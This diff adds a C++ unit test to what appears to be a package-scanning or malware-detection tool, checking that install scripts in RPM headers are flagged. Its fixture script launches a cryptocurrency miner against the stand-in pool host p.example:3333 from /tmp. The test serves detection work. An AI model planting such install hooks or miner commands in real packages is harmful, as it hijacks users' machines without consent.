@@ -235,6 +235,22 @@ TEST_CASE("examine: a command of a script is evidence with the script's line") {
   CHECK(record.evidence[0].column == 1);
 }
 
+TEST_CASE("examine: install scripts in the headers of an rpm package are scripts") {
+  const auto header = [](const std::string& data) {
+    std::string bytes("\x8e\xad\xe8\x01\0\0\0\0\0\0\0\0\0\0", 14);
+    bytes += static_cast<char>(data.size() >> 8);
+    bytes += static_cast<char>(data.size() & 0xff);
+    return bytes + data;
+  };
+  const std::string script = "cd /tmp\nP=p.example:3333\n./a -u w \\\n -o stratum+tcp://$P\n";
+  const Record record = record_of("\xed\xab\xee\xdb\x03" + std::string(91, '\0') + header("") +
+                                  header(std::string("name\0", 5) + script + '\0') + "payload");
+  REQUIRE(record.evidence.size() == 1);
+  CHECK(record.evidence[0].view == ViewKind::command);
+  CHECK(record.evidence[0].trail.text().find("install scripts › command in line") !=
+        std::string::npos);
+}
+
 TEST_CASE("examine: the names and padding of an archive are matched like any bytes") {
   std::string bytes = test::tar({{.name = "a", .body = "x"}});
   bytes.replace(512 + 100, kMarker.size(), kMarker);  // in the padding after the body
